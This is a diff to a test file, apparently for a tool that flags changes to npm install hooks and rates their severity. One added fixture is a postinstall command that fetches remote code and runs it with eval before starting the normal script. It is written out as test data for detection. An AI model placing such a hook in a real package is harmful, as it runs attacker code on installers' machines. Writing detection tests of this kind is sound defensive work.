@@ -17,6 +17,30 @@ describeSignal(installScriptChanged, {
       'medium',
       'node telemetry.js',
     ],
+    'low when the same script is only started with more care': [
+      both(
+        [{ kind: 'postinstall', command: 'node scripts/postinstall' }],
+        [{ kind: 'postinstall', command: 'node -e "try{require(\'./scripts/postinstall.js\')}catch(e){/* none */}"' }],
+      ),
+      'low',
+      'postinstall is now',
+    ],
+    'when the same script is started behind something else': [
+      both(
+        [{ kind: 'postinstall', command: 'node scripts/postinstall' }],
+        [{ kind: 'postinstall', command: 'node -e "fetch(u).then(eval);require(\'./scripts/postinstall\')"' }],
+      ),
+      'medium',
+      'postinstall is now',
+    ],
+    'when a second script is started': [
+      both(
+        [{ kind: 'postinstall', command: 'node scripts/postinstall' }],
+        [{ kind: 'postinstall', command: 'node scripts/postinstall && node scripts/setup' }],
+      ),
+      'medium',
+      'postinstall is now',
+    ],
     'low when the same command only changed its hook': [
       both([{ kind: 'install', command: 'node setup.js' }], script),
       'low',
